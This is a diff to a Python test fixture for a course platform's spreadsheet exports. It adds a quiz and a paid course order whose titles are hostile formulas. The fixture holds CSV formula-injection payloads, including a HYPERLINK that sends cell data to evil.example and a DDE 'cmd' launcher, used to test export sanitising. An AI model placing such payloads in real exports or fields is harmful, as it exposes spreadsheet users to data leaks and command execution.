@@ -24,6 +24,8 @@ from accounts.models import ClinicianProfile
 from core.spreadsheets import SafeSpreadsheetExportMixin, csv_cell_safe, csv_writer
 from courses.models import Certificate, CourseEvaluation, Enrollment
 from payments.models import Order, OrderStatus
+from tests.courses.factories import CoursePageFactory, ModulePageFactory
+from tests.lessons.quiz_factories import QuizPageFactory, single_choice
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
 HOSTILE_LICENSE = "+cmd|' /C calc'!A0"
@@ -227,8 +229,14 @@ def hostile_world(course, enrolled_learner):
         hours_spent=Decimal("6.0"),
         comments=HOSTILE_COMMENT,
     )
+    # A quiz whose question is a formula (the item analysis prints prompts).
+    quiz = QuizPageFactory(
+        parent=ModulePageFactory(parent=course),
+        questions=[single_choice(HOSTILE_COMMENT, [("Yes", True), ("No", False)])],
+    )
     apps.get_model("lessons", "QuizAttempt").objects.create(
         user=user,
+        quiz=quiz,
         course=course,
         quiz_title=HOSTILE_COMMENT,
         number=1,
@@ -252,6 +260,16 @@ def hostile_world(course, enrolled_learner):
         checkout_session_id="cs_test_hostile",
         payment_intent_id="-pi_1+1",
         paid_at=datetime.datetime(2025, 3, 1, tzinfo=datetime.UTC),
+    )
+    # A course whose title is a formula, with revenue (the revenue report).
+    Order.objects.create(
+        user=user,
+        course=CoursePageFactory(parent=course.get_parent(), title=HOSTILE_COURSE),
+        amount=14900,
+        currency="USD",
+        amount_paid=14900,
+        status=OrderStatus.PAID,
+        paid_at=datetime.datetime(2025, 3, 2, tzinfo=datetime.UTC),
     )
     return user
 
